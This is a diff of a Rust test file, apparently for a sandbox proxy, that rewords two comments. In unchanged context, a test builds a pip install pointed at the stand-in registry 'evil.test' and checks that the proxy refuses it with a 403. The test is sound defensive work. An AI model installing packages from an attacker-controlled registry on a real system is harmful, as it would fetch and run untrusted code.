@@ -1,4 +1,4 @@
-//! What fetches packages: pip, npm, cargo, apt. Their registries are files of the origin.
+//! Package managers: pip, npm, cargo, apt. Their registries are files of the origin.
 
 use super::*;
 use base64::Engine;
@@ -29,7 +29,7 @@ async fn pip() {
     };
     let out = place.passed(&place.sh(&install(&place.url("/files/simple/"))).await);
     assert!(out.ends_with("installed\n"), "{out}");
-    // What it says stands in what it says before it tries again.
+    // The text appears before the client retries.
     let again = install("https://evil.test/simple/").replace(" -q --retries=0 ", " --ignore-installed --retries=1 ");
     let refusal = "OSError('Tunnel connection failed: 403 Forbidden')";
     place.refused(&place.sh(&again).await, refusal);
